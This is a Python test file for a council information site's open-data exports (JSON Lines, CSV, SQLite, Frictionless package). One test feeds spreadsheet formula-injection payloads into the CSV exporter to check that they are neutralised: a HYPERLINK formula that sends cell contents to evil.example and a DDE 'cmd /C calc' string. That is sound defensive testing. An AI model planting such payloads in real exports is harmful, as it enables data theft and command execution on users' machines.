"""The dumps under daten/ (plugins/opendata): valid as a Frictionless Data Package, one SQLite
database with foreign keys and full-text search, links absolute only with a public address,
unchanged files untouched by a rebuild, and no source string that becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import json
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

from importers.content import render_front_matter
from ratsinfo.build import build_site
from tests.conftest import MINI_OVERRIDES, MINI_PUBLIC_URL, MINI_SOURCE

TABLES = ("bodies", "legislative_terms", "locations", "organizations", "persons", "memberships", "files", "meetings",
          "papers", "agenda_items", "consultations")


def jsonl(folder: Path, table: str) -> list[dict]:
    return [json.loads(line) for line in (folder / f"{table}.jsonl").read_text(encoding="utf-8").splitlines()]


def test_frictionless_validates_the_data_package_of_the_mini_site(mini_site):
    frictionless = Path(sys.executable).with_name("frictionless")
    done = subprocess.run([str(frictionless), "validate", "--json", "datapackage.json"], cwd=mini_site / "daten",
                          capture_output=True, text=True, timeout=300)
    report = json.loads(done.stdout)
    assert done.returncode == 0 and report["valid"], done.stdout[:3000]
    validated = {task["name"] for task in report["tasks"]}
    assert validated >= set(TABLES) | {f"{t}-jsonl" for t in TABLES} | {"ratsinfo-sqlite"}


def test_sqlite_holds_every_row_with_foreign_keys_and_full_text_search(mini_site):
    folder = mini_site / "daten"
    with sqlite3.connect(folder / "ratsinfo.sqlite") as db:
        for table in TABLES:
            assert db.execute(f"SELECT count(*) FROM {table}").fetchone()[0] == len(jsonl(folder, table)), table
        assert db.execute("PRAGMA foreign_key_check").fetchall() == []
        keys = {(row[2], row[3]) for row in db.execute("SELECT * FROM pragma_foreign_key_list('agenda_items')")}
        assert ("meetings", "meeting") in keys and ("consultations", "consultation") in keys
        word = next(w for row in jsonl(folder, "files") for w in (row["text"] or "").split() if w.isalpha()
                    and len(w) > 5)
        found = db.execute("SELECT files.id FROM files_fts JOIN files ON files.rowid = files_fts.rowid "
                           "WHERE files_fts MATCH ?", (word,)).fetchall()
        assert found and all(word in next(r["text"] for r in jsonl(folder, "files") if r["id"] == f)
                             for (f,) in found)
        assert db.execute("SELECT count(*) FROM meetings_fts WHERE meetings_fts MATCH 'Bauausschusses'").fetchone()[0]


def test_dumps_without_public_address_have_the_same_ids_and_links_relative_to_the_site(mini_site, mini_content,
                                                                                        tmp_path):
    overrides = {k: v for k, v in MINI_OVERRIDES.items() if k != "PUBLIC_URL"}
    output = tmp_path / "output"
    build_site(mini_content, output, overrides={**overrides, "PAGEFIND": False})
    assert not (output / "oparl").exists()
    for table in ("meetings", "agenda_items", "papers", "files"):
        local, public = jsonl(output / "daten", table), jsonl(mini_site / "daten", table)
        assert [r["id"] for r in local] == [r["id"] for r in public]
        assert all(r["web"].startswith(MINI_PUBLIC_URL) for r in public if r["web"])
        shown = [r["web"] for r in local if r["web"]]  # a closed agenda item has no link of its own
        assert shown and not [web for web in shown if web.startswith(("http", "/"))]
        assert all((output / web.partition("#")[0]).is_file() for web in shown)
    # Without the API the dumps make their objects without texts and read each text as they write it.
    assert [r["text"] for r in jsonl(output / "daten", "files")] == [r["text"] for r in jsonl(mini_site / "daten",
                                                                                             "files")]
    assert any(r["text"] for r in jsonl(output / "daten", "files"))
    page = (output / "daten" / "index.html").read_text(encoding="utf-8")
    assert "oparl/system" not in page and "ratsinfo.sqlite" in page


def test_a_rebuild_without_changes_rewrites_no_dump_and_one_changed_meeting_only_its_files(mini_content, tmp_path):
    content, output = tmp_path / "content", tmp_path / "output"
    shutil.copytree(mini_content, content)
    overrides = {**MINI_OVERRIDES, "PAGEFIND": False}
    build_site(content, output, overrides=overrides)
    stamps = {p.name: p.stat().st_mtime_ns for p in (output / "daten").iterdir()}
    build_site(content, output, overrides=overrides)
    assert {p.name: p.stat().st_mtime_ns for p in (output / "daten").iterdir()} == stamps

    meeting = content / "meetings" / "2.md"
    meeting.write_text(meeting.read_text(encoding="utf-8").replace("3. Sitzung des Bauausschusses",
                                                                   "3. Sitzung des Bauausschusses (verlegt)"),
                       encoding="utf-8")
    build_site(content, output, overrides=overrides)
    changed = {p.name for p in (output / "daten").iterdir() if p.stat().st_mtime_ns != stamps[p.name]}
    assert {"meetings.jsonl", "meetings.csv", "ratsinfo.sqlite"} <= changed
    assert "persons.jsonl" not in changed and "datapackage.json" not in changed
    with sqlite3.connect(output / "daten" / "ratsinfo.sqlite") as db:
        assert db.execute("SELECT count(*) FROM meetings_fts WHERE meetings_fts MATCH 'verlegt'").fetchone()[0] == 1


def test_the_same_rows_give_the_same_sqlite_bytes(tmp_path):
    from plugins.opendata.formats import write_sqlite
    from plugins.opendata.tables import TABLES as SPECS

    rows = {t.name: [] for t in SPECS}
    rows["meetings"] = [{c.name: None for c in next(t for t in SPECS if t.name == "meetings").all_columns}
                        | {"id": "1", "name": "Ratssitzung", "organizations": [], "auxiliary_files": []}]
    write_sqlite(tmp_path / "a.sqlite", rows)
    write_sqlite(tmp_path / "b.sqlite", rows)
    assert (tmp_path / "a.sqlite").read_bytes() == (tmp_path / "b.sqlite").read_bytes()


def test_csv_cells_never_start_a_spreadsheet_formula(tmp_path):
    def write(folder: str, data: dict):
        (content / folder).mkdir(parents=True, exist_ok=True)
        (content / folder / f"{data['id']}.md").write_bytes(render_front_matter(data))

    content, output = tmp_path / "content", tmp_path / "output"
    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"]
    write("organizations", {"id": "o", "source": "hand", "name": formulas[0], "short_name": formulas[3]})
    write("meetings", {"id": "m", "source": "hand", "name": formulas[1], "start": "2026-03-05T17:00:00+01:00",
                       "organizations": ["o"], "agenda": [
                           {"id": "1", "number": formulas[2], "name": formulas[3], "public": True}]})
    build_site(content, output, overrides={"PAGEFIND": False})
    cells = [cell for name in TABLES
             for row in csv.reader((output / "daten" / f"{name}.csv").open(encoding="utf-8", newline=""))
             for cell in row]
    assert all(f"'{formula}" in cells for formula in formulas)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    # JSON Lines and SQLite keep the text as it is: only spreadsheets read formulas.
    assert jsonl(output / "daten", "meetings")[0]["name"] == formulas[1]


def test_every_property_the_api_writes_has_a_column_or_a_reason_to_be_left_out():
    """A new property in plugins/oparlapi/objects.py must reach the dumps or be named in LEFT_OUT
    with its reason: keys are taken before empty values are dropped, so the mini site's data need
    not fill every one (contact data and a licence switched on, so that they are written too)."""
    from zoneinfo import ZoneInfo

    from plugins.council.loading import load_graph
    from plugins.oparlapi.layout import TYPES, Urls
    from plugins.oparlapi.objects import Objects
    from plugins.opendata.generator import SourceClock
    from plugins.opendata.tables import LEFT_OUT
    from plugins.opendata.tables import TABLES as SPECS

    written: dict[str, set] = {name: set() for name in TYPES}

    class Recording(Objects):
        def made(self, obj):
            written[obj["type"].rsplit("/", 1)[-1]].update(k for k in obj if not k.startswith("__"))
            made = super().made(obj)
            written[obj["type"].rsplit("/", 1)[-1]].update(made)
            return made

    urls = Urls("https://ratsinfo.example/")
    objects = Recording(load_graph(MINI_SOURCE, publish_contact_data=True), urls, SourceClock(),
                        tz=ZoneInfo("Europe/Berlin"), web_url=lambda obj: urls.url(obj.url), contact=True,
                        licence="https://www.govdata.de/dl-de/by-2-0").build()
    for type_name, found in objects.by_type.items():
        for obj in found:
            written[type_name].update(obj)
    assert {"gender", "email", "phone", "affix"} <= written["Person"] and "license" in written["Body"]
    tables = {t.oparl: t for t in SPECS}
    assert set(tables) == set(TYPES)
    for type_name, keys in written.items():
        columns = {c.key for c in tables[type_name].all_columns}
        left_out = set(LEFT_OUT["*"]) | set(LEFT_OUT.get(type_name, {}))
        assert keys - columns - left_out == set(), f"{type_name}: Eigenschaften ohne Spalte in den Dumps"
        # The other way round: no column and no reason for a property the API does not write (every
        # table has `web`; memberships, consultations and locations have no page of their own).
        assert columns - keys <= {"web"} and left_out - keys == set(), type_name


def test_gender_and_contact_data_reach_the_dumps_only_with_publish_contact_data(mini_site, tmp_path):
    content, output = tmp_path / "content", tmp_path / "output"
    shutil.copytree(MINI_SOURCE, content)
    person = content / "persons" / "1.md"
    person.write_text(person.read_text(encoding="utf-8").replace(
        "gender: female", "gender: female\nemail: [erika.mustermann@kleinstadt.example]\nphone: ['+49 341 4711']"),
        encoding="utf-8")

    def persons(folder: Path) -> list[tuple]:
        """Person 1's gender, e-mail and phone in JSON Lines, CSV and SQLite."""
        found = [next((r["gender"], r["email"], r["phone"]) for r in jsonl(folder, "persons") if r["id"] == "1")]
        with (folder / "persons.csv").open(encoding="utf-8", newline="") as cells:
            found += [(r["gender"] or None, json.loads(r["email"]), json.loads(r["phone"]))
                      for r in csv.DictReader(cells) if r["id"] == "1"]
        with sqlite3.connect(folder / "ratsinfo.sqlite") as db:
            found += [(g, json.loads(e), json.loads(p))
                      for g, e, p in db.execute("SELECT gender, email, phone FROM persons WHERE id = '1'")]
        return found

    for contact in (False, True):
        shutil.rmtree(output, ignore_errors=True)
        build_site(content, output, overrides={**MINI_OVERRIDES, "PAGEFIND": False,
                                               "PUBLISH_CONTACT_DATA": contact})
        shown = ("female", ["erika.mustermann@kleinstadt.example"], ["+49 341 4711"]) if contact else (None, [], [])
        assert persons(output / "daten") == [shown] * 3
        if not contact:
            everything = b"".join(p.read_bytes() for p in (output / "daten").iterdir())
            assert b"female" not in everything and b"erika.mustermann" not in everything
    assert persons(mini_site / "daten") == [(None, [], [])] * 3
